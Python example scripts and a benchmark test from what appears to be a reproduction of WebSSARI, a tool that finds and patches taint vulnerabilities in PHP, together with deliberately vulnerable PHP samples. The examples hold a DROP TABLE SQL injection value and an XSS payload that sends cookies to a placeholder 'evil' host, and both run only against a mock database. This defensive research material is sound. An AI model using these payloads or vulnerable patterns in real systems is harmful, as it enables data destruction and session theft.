    closure_keys: bool = True,
    parse_cache: ParseCache | None = None,
    cache: ResultCache | None = None,
):
    websari = WebSSARI(parse_cache=parse_cache, closure_keys=closure_keys)
    engine = AuditEngine(websari=websari, config=EngineConfig(jobs=jobs, cache=cache))
    return engine.run(make_tasks(files, closure_keys=closure_keys))


def parse_seconds(result) -> float:
    return sum(o.timings.get("parse", 0.0) for o in result.outcomes)


def record_trajectory(point: dict) -> None:
    path = Path(__file__).resolve().parent.parent / "BENCH_parse_graph.json"
    try:
        trajectory = json.loads(path.read_text())
        assert isinstance(trajectory, list)
    except (OSError, ValueError, AssertionError):
        trajectory = []
    trajectory.append(point)
    path.write_text(json.dumps(trajectory, indent=2, sort_keys=True) + "\n")


@pytest.mark.benchmark(group="parse-graph")
def test_closure_keys_parse_cache_and_slicing(benchmark, tmp_path):
    files = make_corpus()
    total_bytes = sum(len(text) for text in files.values())
    n_tasks = len(files)

    # -- baseline: verdict reference, parse-cache off, whole project ----
    baseline = sweep(files, closure_keys=False)

    # -- contract: closure-scoped invalidation across cold processes ----
    result_dir = tmp_path / "results"
    first = sweep(files, cache=ResultCache(result_dir))
    assert first.stats.cache_misses == n_tasks

    edited_leaf = dict(files)
    edited_leaf["entry1.php"] = files["entry1.php"].replace("entry 1", "entry 1 v2")
    second = sweep(edited_leaf, cache=ResultCache(result_dir))
    assert second.stats.cache_misses == 1, "a leaf edit must re-verify only itself"
    assert second.stats.cache_hits == n_tasks - 1

    edited_prelude = dict(files)
    edited_prelude["common.php"] = files["common.php"].replace(
        "prelude value 0", "prelude value 0 v2"
    )
    third = sweep(edited_prelude, cache=ResultCache(result_dir))
    # Every includer of common.php misses (plus common.php itself as its
    # own entry); the standalone leaf still hits.
    assert third.stats.cache_misses == N_ENTRIES + 1
    assert third.stats.cache_hits == 1

    # -- contract: warm parse cache ≥ 2× on the parse stage -------------
    persist = tmp_path / "parse"
    nocache = sweep(files)
    cold = sweep(files, parse_cache=ParseCache(persist_dir=persist))
    warm = benchmark.pedantic(
        lambda: sweep(files, parse_cache=ParseCache(persist_dir=persist)),
        rounds=1,
        iterations=1,
    )
    nocache_parse = parse_seconds(nocache)
    warm_parse = parse_seconds(warm)
    ratio = nocache_parse / warm_parse if warm_parse else float("inf")

    # -- contract: slice shipping beats whole-project shipping ≥ 5× -----
    pooled = sweep(files, jobs=2)
    shipped = pooled.stats.closure_bytes_shipped
    whole_project_volume = n_tasks * total_bytes
    shipping_ratio = whole_project_volume / shipped if shipped else float("inf")
    assert shipped > 0
    assert shipping_ratio >= 5.0, (
        f"closure slices shipped {shipped} bytes; whole-project shipping "
        f"would be {whole_project_volume} — only {shipping_ratio:.1f}x better"
    )

    # -- contract: verdict parity across every switch combination -------
    reference = [(o.safe, o.summary) for o in baseline.outcomes]
    for label, result in [
        ("closure+nocache", nocache),
        ("closure+cold", cold),
        ("closure+warm", warm),
        ("closure+pool", pooled),
        ("whole+cache", sweep(files, closure_keys=False, parse_cache=ParseCache())),
    ]:
        got = [(o.safe, o.summary) for o in result.outcomes]
        assert got == reference, f"{label} sweep changed a verdict"

    print()
    print(
        f"parse graph — {N_ENTRIES} entries × {PRELUDE_STATEMENTS}-statement "
        f"prelude ({total_bytes} bytes)"
    )
    print(
        f"parse stage: nocache {nocache_parse:.3f}s, cold {parse_seconds(cold):.3f}s, "
        f"warm {warm_parse:.3f}s  ({ratio:.1f}x warm speedup)"
    )
    print(
        f"shipping: {shipped} bytes over the pipe vs {whole_project_volume} "
        f"whole-project ({shipping_ratio:.1f}x), "
        f"{pooled.stats.closure_bytes_deduped} deduped"
    )

    point = {
        "bench": "parse_graph",
        "entries": N_ENTRIES,
        "prelude_statements": PRELUDE_STATEMENTS,
        "corpus_bytes": total_bytes,
        "leaf_edit_misses": second.stats.cache_misses,
        "prelude_edit_misses": third.stats.cache_misses,
        "parse_nocache_seconds": round(nocache_parse, 4),
        "parse_warm_seconds": round(warm_parse, 4),
        "parse_warm_speedup": round(ratio, 3) if warm_parse else None,
        "bytes_shipped": shipped,
        "bytes_deduped": pooled.stats.closure_bytes_deduped,
        "shipping_ratio": round(shipping_ratio, 2),
    }
    out = os.environ.get("REPRO_BENCH_OUT")
    if out:
        Path(out).write_text(json.dumps(point, indent=2, sort_keys=True) + "\n")
    if not SMOKE:
        # Acceptance contract (ISSUE 9): warm parse ≥ 2× nocache parse.
        assert ratio >= 2.0, f"warm parse speedup {ratio:.2f}x below the 2x contract"
        record_trajectory(point)
