"""SQL-injection audit: the ILIAS HTTP_REFERER attack (paper Figure 3).

The referrer header — attacker-controlled like any request field — flows
into an INSERT statement.  The paper's attack value

    ');DROP TABLE ('users

turns the INSERT into an INSERT plus a DROP TABLE.  This example
verifies the code, shows the counterexample trace, runs the attack in
the interpreter, patches, and re-runs.

Run:  python examples/sql_injection_audit.py
"""

from repro import WebSSARI
from repro.interp import HttpRequest, MockDatabase, run_php

TRACKER = """<?php
$sql = "INSERT INTO track_temp VALUES('$HTTP_REFERER');";
mysql_query($sql);
"""

ATTACK_REFERER = "');DROP TABLE ('users"


def fresh_database() -> MockDatabase:
    db = MockDatabase()
    db.create_table("users", [{"name": "admin"}, {"name": "alice"}])
    db.create_table("track_temp", [])
    return db


def main() -> None:
    websari = WebSSARI()

    print("=== static verification ===")
    report = websari.verify_source(TRACKER, filename="tracker.php")
    print(report.detailed_report())
    print()

    print("=== the attack, unpatched ===")
    db = fresh_database()
    run_php(TRACKER, request=HttpRequest(referer=ATTACK_REFERER), database=db)
    print("executed SQL:", db.query_log[-1])
    print("tables dropped:", db.dropped_tables)
    assert "users" in db.dropped_tables
    print()

    print("=== patching ===")
    _, patched = websari.patch_source(TRACKER, filename="tracker.php", strategy="bmc")
    print(patched.source)
    assert websari.verify_source(patched.source).safe

    print("=== the attack, patched ===")
    db = fresh_database()
    run_php(patched.source, request=HttpRequest(referer=ATTACK_REFERER), database=db)
    print("executed SQL:", db.query_log[-1])
    print("tables dropped:", db.dropped_tables)
    assert db.dropped_tables == []
    print("the users table survives; the malicious referer is stored inert.")


if __name__ == "__main__":
    main()
