"""Minimal fixing sets: the paper's Figure 7 root-cause analysis.

One tainted variable ($sid) makes many statements vulnerable.  TS would
sanitize every symptom; BMC's counterexample analysis builds replacement
sets, solves MINIMUM-INTERSECTING-SET, and patches once at the root.
The example also compares the greedy heuristic with the exact solver.

Run:  python examples/minimal_fixing_set.py
"""

from repro import WebSSARI
from repro.analysis import (
    exact_minimum_intersecting_set,
    greedy_minimum_intersecting_set,
    replacement_sets_for_trace,
)

SOURCE = """<?php
$sid = $_GET['sid']; if (!$sid) {$sid = $_POST['sid'];}
$iq = "SELECT * FROM groups WHERE sid=$sid"; DoSQL($iq);
$i2q = "SELECT * FROM answers WHERE sid=$sid"; DoSQL($i2q);
$fnquery = "SELECT * FROM questions, surveys WHERE questions.sid='$sid'"; DoSQL($fnquery);
"""


def main() -> None:
    websari = WebSSARI()
    report = websari.verify_source(SOURCE, filename="surveyor.php")

    print("=== symptoms (what TS would patch) ===")
    for violation in report.ts.violations:
        print(f"  {violation}")
    print(f"TS instrumentations required: {report.ts_error_count}")
    print()

    print("=== replacement sets from the counterexample traces ===")
    collection = []
    for trace in report.bmc.all_counterexamples():
        for rset in replacement_sets_for_trace(trace):
            names = [c.name for c in rset.candidates]
            print(f"  trace@assert#{trace.assert_id}: s_{rset.violating} = {names}")
            collection.append(set(names))
    print()

    print("=== MINIMUM-INTERSECTING-SET ===")
    greedy = greedy_minimum_intersecting_set(collection)
    exact = exact_minimum_intersecting_set(collection)
    print(f"  greedy (Chvatal):  {sorted(greedy)}")
    print(f"  exact  (B&B):      {sorted(exact)}")
    assert len(greedy) == len(exact) == 1
    print()

    print("=== the pipeline's grouping result ===")
    print(f"  fixing set: {sorted(report.grouping.fixing_set)}")
    print(f"  BMC instrumentations required: {report.bmc_group_count}")
    print(f"  reduction vs TS: "
          f"{100.0 * (report.ts_error_count - report.bmc_group_count) / report.ts_error_count:.0f}%")

    _, patched = websari.patch_source(SOURCE, filename="surveyor.php", strategy="bmc")
    print()
    print("=== patched source (one guard fixes all three sinks) ===")
    print(patched.source)
    assert websari.verify_source(patched.source).safe


if __name__ == "__main__":
    main()
