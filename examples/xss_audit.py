"""Stored-XSS audit: the paper's PHP Support Tickets scenario (Figures 1–2).

A ticket-submission script inserts user input into the database without
sanitization; a display script renders stored tickets back to every
user.  The example (1) verifies both scripts, (2) demonstrates the
attack end-to-end in the mini PHP interpreter, (3) applies WebSSARI's
automatic patch, and (4) shows the attack neutralized.

Run:  python examples/xss_audit.py
"""

from repro import WebSSARI
from repro.interp import HttpRequest, MockDatabase, run_php

SUBMIT = """<?php
$query = "INSERT INTO tickets_tickets (tickets_username, tickets_subject)
          VALUES ('{$_SESSION_username}', '{$_POST['ticketsubject']}')";
$result = @mysql_query($query);
echo "Ticket submitted.";
"""

DISPLAY = """<?php
$query = "SELECT tickets_username, tickets_subject FROM tickets_tickets";
$result = @mysql_query($query);
while ($row = @mysql_fetch_array($result)) {
  extract($row);
  echo "$tickets_username<BR>$tickets_subject<BR><BR>";
}
"""

PAYLOAD = "<script>document.location='http://evil/steal?c='+document.cookie</script>"


def main() -> None:
    websari = WebSSARI()

    print("=== static verification ===")
    for name, source in (("submit.php", SUBMIT), ("display.php", DISPLAY)):
        report = websari.verify_source(source, filename=name)
        print(report.summary())
    print()

    print("=== attack against the unpatched application ===")
    db = MockDatabase()
    db.create_table("tickets_tickets", [])
    run_php(SUBMIT, request=HttpRequest(post={"ticketsubject": PAYLOAD}), database=db)
    response = run_php(DISPLAY, database=db).response_body()
    delivered = "<script>" in response
    print(f"response contains live <script> tag: {delivered}")
    assert delivered
    print()

    print("=== patching display.php ===")
    report, patched = websari.patch_source(DISPLAY, filename="display.php", strategy="bmc")
    print(f"guards inserted: {patched.num_guards}")
    print(patched.source)

    print("=== attack against the patched application ===")
    response = run_php(patched.source, database=db).response_body()
    delivered = "<script>" in response
    print(f"response contains live <script> tag: {delivered}")
    assert not delivered
    print("stored payload is rendered inert:", response.strip()[:80], "...")


if __name__ == "__main__":
    main()
