"""Whole-project audit: verify a multi-file application with includes.

Builds a small support-desk application (several pages sharing a
library via include), audits every entry point, prints the per-file and
aggregate results, and patches the vulnerable pages.

Run:  python examples/project_audit.py
"""

from repro import WebSSARI
from repro.php import SourceProject

FILES = {
    "lib/db.php": """<?php
function db_connect() { mysql_connect('localhost'); mysql_select_db('desk'); return true; }
function fetch_all($sql) {
  $r = mysql_query($sql);
  return $r;
}
""",
    "lib/render.php": """<?php
function page_header($title) { echo '<h1>' . htmlspecialchars($title) . '</h1>'; }
""",
    "index.php": """<?php
include 'lib/render.php';
page_header('Support Desk');
echo '<a href="view.php">View tickets</a>';
""",
    "submit.php": """<?php
include 'lib/db.php';
db_connect();
$subject = $_POST['subject'];
$body = $_POST['body'];
mysql_query("INSERT INTO tickets (subject, body) VALUES ('$subject', '$body')");
echo 'Thanks!';
""",
    "view.php": """<?php
include 'lib/db.php';
include 'lib/render.php';
db_connect();
page_header('Tickets');
$r = fetch_all("SELECT subject FROM tickets");
while ($row = mysql_fetch_array($r)) {
  echo "<li>$row[subject]</li>";
}
""",
    "search.php": """<?php
include 'lib/db.php';
db_connect();
$q = intval($_GET['q']);
$r = mysql_query('SELECT * FROM tickets WHERE id=' . $q);
echo 'done';
""",
}


def main() -> None:
    project = SourceProject(FILES)
    websari = WebSSARI()

    report = websari.verify_project(project)
    print(f"project: {report.num_files} files, {report.num_statements} statements")
    print(f"vulnerable files: {report.num_vulnerable_files}")
    print(f"TS errors: {report.ts_error_count}, BMC groups: {report.bmc_group_count}")
    print()
    for file_report in report.reports:
        print(file_report.summary())
        print()

    vulnerable = {r.filename for r in report.vulnerable_reports}
    assert vulnerable == {"submit.php", "view.php"}, vulnerable

    print("=== patching the vulnerable pages ===")
    for name in sorted(vulnerable):
        _, patched = websari.patch_source(project.source(name), filename=name)
        print(f"-- {name}: {patched.num_guards} guard(s)")
        assert websari.verify_source(patched.source, filename=name).safe
    print("all patched pages verify safe.")


if __name__ == "__main__":
    main()
