<?php
// SQL injection through HTTP_REFERER (the paper's Figure 3 shape).
$ref = $_SERVER['HTTP_REFERER'];
$sql = "INSERT INTO referers (url) VALUES ('$ref')";
DoSQL($sql);
