<?php
// Properly sanitized page: every tainted value is escaped before the
// sink, so the verifier reports it SAFE.
$name = htmlspecialchars($_GET['name']);
$bio = htmlspecialchars($_POST['bio']);
echo '<h1>' . $name . '</h1>';
echo '<p>' . $bio . '</p>';
