<?php
// Stored-XSS shape from the paper's Figure 1: untrusted POST data
// echoed back without sanitization.
$poster = $_POST['poster'];
$message = $_POST['message'];
echo "<b>$poster</b> wrote:";
echo "<blockquote>$message</blockquote>";
