"""Batch audit: sweep a corpus through the parallel engine, twice.

Builds a small on-disk corpus (vulnerable, safe, and broken files),
audits it with a 2-worker pool and a content-addressed result cache,
then audits it again to show the warm run served entirely from cache
with byte-identical verdicts — and that editing one file invalidates
exactly that file.

Run:  python examples/batch_audit.py
"""

import tempfile
from pathlib import Path

from repro.engine import AuditEngine, AuditTask, EngineConfig, ResultCache

CORPUS = {
    "guestbook.php": """<?php
$msg = $_POST['msg'];
echo "<li>$msg</li>";
""",
    "search.php": """<?php
$q = $_GET['q'];
DoSQL("SELECT * FROM pages WHERE body LIKE '%$q%'");
""",
    "about.php": """<?php
echo '<h1>About</h1>';
echo htmlspecialchars($_GET['ref']);
""",
    "broken.php": """<?php
if ($x {   // unbalanced — the frontend rejects this file
""",
}


def run(root: Path, cache: ResultCache):
    files = sorted(root.glob("*.php"))
    tasks = [
        AuditTask(index=i, filename=str(path), source=path.read_text())
        for i, path in enumerate(files)
    ]
    engine = AuditEngine(config=EngineConfig(jobs=2, cache=cache))
    return engine.run(tasks)


with tempfile.TemporaryDirectory() as tmp:
    root = Path(tmp) / "corpus"
    root.mkdir()
    for name, source in CORPUS.items():
        (root / name).write_text(source)
    cache = ResultCache(Path(tmp) / "cache")

    print("== cold run (2 workers, empty cache) ==")
    cold = run(root, cache)
    for outcome in cold.outcomes:
        verdict = (
            ("VULNERABLE" if not outcome.safe else "SAFE")
            if outcome.status == "ok"
            else outcome.status
        )
        print(f"  {Path(outcome.filename).name:16} {verdict}")
    for line in cold.stats.summary_lines():
        print("  " + line)
    assert cold.any_vulnerable and cold.stats.frontend_errors == 1

    print("\n== warm run (same corpus) ==")
    warm = run(root, cache)
    for line in warm.stats.summary_lines():
        print("  " + line)
    assert warm.stats.hit_rate() == 1.0, "every file should be a cache hit"
    assert [o.summary for o in warm.outcomes] == [o.summary for o in cold.outcomes]

    print("\n== after editing one file ==")
    (root / "guestbook.php").write_text(
        "<?php\necho htmlspecialchars($_POST['msg']);\n"
    )
    edited = run(root, cache)
    for line in edited.stats.summary_lines():
        print("  " + line)
    assert edited.stats.cache_misses == 1, "only the edited file re-audits"

print("\nbatch audit example OK")
