"""Quickstart: verify a PHP snippet, read the report, auto-patch it.

Run:  python examples/quickstart.py
"""

from repro import WebSSARI

SOURCE = """<?php
$username = $_GET['user'];
$greeting = "Welcome back, $username!";
echo $greeting;

$id = intval($_GET['id']);
mysql_query("SELECT * FROM accounts WHERE id=" . $id);
"""


def main() -> None:
    websari = WebSSARI()

    print("=== verifying ===")
    report = websari.verify_source(SOURCE, filename="welcome.php")
    print(report.summary())
    print()
    print(report.detailed_report())

    print()
    print("=== auto-patching (BMC strategy: guard at the root cause) ===")
    report, patched = websari.patch_source(SOURCE, filename="welcome.php", strategy="bmc")
    print(f"guards inserted: {patched.num_guards}")
    print(patched.source)

    print("=== re-verifying the patched source ===")
    re_report = websari.verify_source(patched.source, filename="welcome.php")
    print(re_report.summary())
    assert re_report.safe, "patched code must verify safe"


if __name__ == "__main__":
    main()
