"""Walk the paper's Figure 6 example through every pipeline stage.

Shows: PHP source → filtered F(p) → abstract interpretation →
single-assignment renaming → per-bit boolean constraints → CNF →
per-assertion verdicts, mirroring the five columns of Figure 6.

Run:  python examples/figure6_translation.py
"""

from repro.ai import rename, translate_filter_result
from repro.bmc import check_program
from repro.bmc.encoder import ConstraintGenerator, LatticeEncoding
from repro.ir import filter_source
from repro.lattice import two_point_lattice
from repro.sat.dimacs import write_dimacs

SOURCE = """<?php
if ($Nick) {
  $tmp = $_GET["nick"];
  echo (htmlspecialchars($tmp));
} else {
  $tmp = "You are the" . $GuestCount . " guest";
  echo ($tmp);
}
"""


def main() -> None:
    print("=== PHP source ===")
    print(SOURCE)

    filtered = filter_source(SOURCE)
    print("=== filtered result F(p) ===")
    print(filtered.commands)
    print()

    ai = translate_filter_result(filtered)
    print("=== abstract interpretation AI(F(p)) ===")
    print(ai.body)
    print(f"({ai.num_branches} nondeterministic branch(es), {ai.num_assertions} assertion(s))")
    print()

    renamed = rename(ai)
    print("=== renamed single-assignment form (rho) ===")
    for event in renamed.events:
        print(" ", event)
    print()

    encoding = LatticeEncoding(two_point_lattice())
    generator = ConstraintGenerator(renamed, encoding)
    encoded = generator.encode_all()
    print("=== per-assertion formulas (cf. B1, B2 in Figure 6) ===")
    for item in encoded:
        print(f"  B{item.event.assert_id}: violation := {item.violation!r}")
    print()
    print(f"=== CNF ({generator.cnf.num_vars} vars, {generator.cnf.num_clauses} clauses) ===")
    print(write_dimacs(generator.cnf, comment="Figure 6 assignment constraints")[:400] + "...")
    print()

    result = check_program(renamed)
    print("=== verdicts ===")
    for assertion in result.assertions:
        verdict = "UNSAT (safe)" if assertion.safe else "SAT (vulnerable)"
        print(f"  assertion #{assertion.assert_id}: {verdict}")
    assert result.safe, "Figure 6's program is safe: sanitized nick, untainted counter"


if __name__ == "__main__":
    main()
