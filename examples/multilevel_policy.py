"""Custom policies: a three-level Denning lattice beyond plain tainting.

The verification machinery is parametric in the safety lattice
(paper §3.1).  This example builds ``public <= internal <= secret``,
declares sinks with different tolerances, and shows the checker
distinguishing flows that plain two-point tainting cannot.

Run:  python examples/multilevel_policy.py
"""

from repro import WebSSARI
from repro.lattice import linear_lattice
from repro.policy import Prelude

SOURCE = """<?php
$session = $_COOKIE['session'];     // secret: raw credential material
$page = $_GET['page'];              // internal: user-controlled, non-credential
$banner = 'Welcome!';               // public

audit_log($session);                 // audit log accepts anything below top-secret? no:
debug_log($page);                    // debug log accepts internal and below
render($banner);                     // public rendering requires public data
render($page);                       // VIOLATION: internal reaches a public sink
"""


def build_policy() -> Prelude:
    lattice = linear_lattice(["public", "internal", "secret", "topsecret"])
    prelude = Prelude(lattice)
    prelude.add_superglobal("_COOKIE", "secret")
    prelude.add_superglobal("_GET", "internal")
    # A sink declared at level L accepts data strictly BELOW L.
    prelude.add_sink("audit_log", "topsecret")  # accepts up to secret
    prelude.add_sink("debug_log", "secret")  # accepts up to internal
    prelude.add_sink("render", "internal")  # accepts only public
    prelude.add_sanitizer("declassify", "public")
    return prelude


def main() -> None:
    websari = WebSSARI(prelude=build_policy())
    report = websari.verify_source(SOURCE, filename="levels.php")

    print(report.summary())
    print()
    for result in report.bmc.assertions:
        sink = result.event.function
        verdict = "ok" if result.safe else "VIOLATION"
        print(f"  assertion #{result.assert_id} ({sink}): {verdict}")
        for trace in result.counterexamples:
            for violation in trace.violating:
                print(f"      {violation.var} carries {violation.level!r}, "
                      f"sink requires < {result.event.required!r}")

    by_id = {r.assert_id: r for r in report.bmc.assertions}
    assert by_id[1].safe        # secret into audit_log (< topsecret): fine
    assert by_id[2].safe        # internal into debug_log (< secret): fine
    assert by_id[3].safe        # public banner into render: fine
    assert not by_id[4].safe    # internal into render: flagged

    print()
    print("declassification fixes it:")
    fixed = SOURCE.replace("render($page);", "$page = declassify($page); render($page);")
    assert websari.verify_source(fixed).safe
    print("  verified safe after declassify($page)")


if __name__ == "__main__":
    main()
