"""Auditing object-oriented PHP: taint through classes and properties.

2003-era PHP applications wrap request handling in PHP4-style classes;
WebSSARI unfolds methods like functions and tracks properties
field-sensitively (``$obj->prop``).  This example audits a small
ticket-model class, shows the root-cause group landing on the property,
patches, and exercises original and patched code in the interpreter.

Run:  python examples/oop_audit.py
"""

from repro import WebSSARI
from repro.interp import HttpRequest, run_php

SOURCE = """<?php
class Ticket {
  var $subject;
  var $status = 'open';
  function Ticket($subject) {
    $this->subject = $subject;
  }
  function render_row() {
    echo '<tr><td>' . $this->subject . '</td><td>' . $this->status . '</td></tr>';
  }
  function save() {
    mysql_query("INSERT INTO tickets (subject, status) VALUES ('{$this->subject}', '{$this->status}')");
  }
}

$ticket = new Ticket($_POST['subject']);
$ticket->save();
$ticket->render_row();
"""


def main() -> None:
    websari = WebSSARI()

    print("=== static verification ===")
    report = websari.verify_source(SOURCE, filename="ticket.php")
    print(report.detailed_report())
    print()
    assert not report.safe
    assert report.ts_error_count == 2  # SQL insert + HTML render
    assert report.bmc_group_count == 1  # one root cause: the property

    print("=== the attack, unpatched ===")
    payload = "<script>steal()</script>"
    env = run_php(SOURCE, request=HttpRequest(post={"subject": payload}))
    print("response:", env.response_body().strip()[:80])
    assert "<script>" in env.response_body()
    print()

    print("=== patching (one guard at the property introduction) ===")
    _, patched = websari.patch_source(SOURCE, filename="ticket.php", strategy="bmc")
    print(f"guards: {patched.num_guards}")
    print(patched.source)
    assert websari.verify_source(patched.source).safe

    print("=== the attack, patched ===")
    env = run_php(patched.source, request=HttpRequest(post={"subject": payload}))
    print("response:", env.response_body().strip()[:100])
    assert "<script>" not in env.response_body()
    print("payload neutralized at both sinks by the single guard.")


if __name__ == "__main__":
    main()
